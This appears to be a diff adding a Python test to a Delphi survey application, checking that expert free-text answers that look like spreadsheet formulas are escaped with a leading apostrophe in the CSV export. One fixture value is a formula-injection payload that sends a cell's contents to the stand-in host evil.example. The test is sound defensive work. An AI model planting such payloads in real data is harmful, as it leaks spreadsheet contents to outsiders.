@@ -155,3 +155,38 @@ def test_an_oversized_panel_file_is_refused_whole(study: Study) -> None:
     report = panel_import_csv(study=study, data=data)
     assert not report.ok and "larger than" in report.errors[0][1]
     assert not Expert.objects.exists()
+
+
+def test_free_text_that_looks_like_a_formula_is_exported_as_text(study: Study, catalog: Any) -> None:
+    """What an expert typed reaches responses.csv, but a spreadsheet opening it shows text, not a formula."""
+    import csv
+    import io
+    import zipfile
+
+    from foresight.catalog.models import Topic
+    from foresight.delphi.services.export import round_export_package
+    from foresight.delphi.services.responses import response_save
+    from tests.delphi.conftest import make_participant
+
+    Question.objects.create(study=study, key="remarks", order=99, qtype=Question.Type.TEXT, label_en="Remarks")
+    rnd = study.rounds.get(number=1)
+    round_open(rnd=rnd)
+    typed = {
+        "alice@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "bob@example.org": "+1 and more, plainly",
+        "carol@example.org": "A remark with = inside",
+    }
+    topic = Topic.objects.get(code="bci")
+    for email, text in typed.items():
+        response_save(participant=make_participant(study, email), rnd=rnd, topic=topic, answers={"remarks": text})
+    stored = set(Answer.objects.filter(question__key="remarks").values_list("value_text", flat=True))
+    assert stored == set(typed.values())  # stored as typed
+
+    package = zipfile.ZipFile(io.BytesIO(round_export_package(rnd=rnd)))
+    rows = list(csv.DictReader(io.StringIO(package.read("responses.csv").decode())))
+    exported = {row["value"] for row in rows if row["question"] == "remarks"}
+    assert exported == {
+        "'" + typed["alice@example.org"],
+        "'" + typed["bob@example.org"],
+        typed["carol@example.org"],
+    }
